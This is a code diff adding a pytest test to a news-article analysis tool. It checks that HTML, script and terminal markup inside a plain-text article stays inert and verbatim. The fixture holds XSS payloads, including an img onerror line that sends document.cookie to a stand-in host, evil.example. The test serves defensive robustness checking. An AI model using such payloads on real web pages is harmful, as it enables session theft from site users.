@@ -226,3 +226,37 @@ def test_an_internal_error_on_one_article_does_not_stop_the_batch(tmp_path, caps
     assert [json.loads(line)["id"] for line in out.splitlines()] == ["a_good"]
     line = next(x for x in err.splitlines() if "f_good.txt" in x)
     assert line.startswith("reportage: error: ") and "simulated bug" in line and "second line" not in err
+
+
+MALICIOUS = ("Minister Warns Of Unrest <script>alert('x')</script>\n\n"
+             "Slideshow (3 Images)\n\n"
+             "The minister said on Monday that the <b onmouseover=\"alert(1)\">talks</b> would resume in Geneva.\n\n"
+             "\u201cWe will not accept [bold red]threats[/bold red] or [link=javascript:alert(1)]tricks[/link],\u201d "
+             "she told reporters. <img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">\n\n"
+             "By signing up, you agree to our Privacy Policy <iframe src=\"javascript:alert(2)\"></iframe>\n")
+
+
+def test_markup_and_script_in_plain_text_stay_inert_text(tmp_path, capsys):
+    """A plain-text article carrying HTML, script and terminal markup: analysed as text, kept verbatim,
+    never interpreted. The residue lines that carry markup are excluded like any other."""
+    path = tmp_path / "malicious.txt"
+    path.write_text(MALICIOUS, encoding="utf-8")
+    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
+    assert code == 0 and "Traceback" not in err, err
+    doc = json.loads(out)
+    text = doc["text"]
+    assert text == MALICIOUS
+    assert {x["reason"] for x in doc["excluded"]} >= {"slideshow marker", "newsletter or sign-up offer"}
+    for x in doc["excluded"]:
+        assert text[x["start"]:x["end"]] == x["text"]
+    spans = [m for a in doc["actors"] for m in a["mentions"]]
+    spans += [s for q in doc["attributions"] for s in (q["source"], q["cue"], *q["content"]) if s]
+    spans += [s for e in doc["events"] for s in (e["trigger"], e["sentence"])]
+    for span in spans:
+        assert text[span["start"]:span["end"]] == span["text"]
+    assert any("talks" in c["text"] for q in doc["attributions"] for c in q["content"])
+    assert not any(a["name"].lower() in ("you", "slideshow") for a in doc["actors"])
+    # the terminal view prints the markup as text: rich must not read "[bold red]" or "[link=...]" as style
+    code, out, err = run_cli(capsys, "analyze", str(path))
+    assert code == 0 and "Traceback" not in err, err
+    assert "[bold red]threats[/bold red]" in out and "[link=javascript:alert(1)]" in out
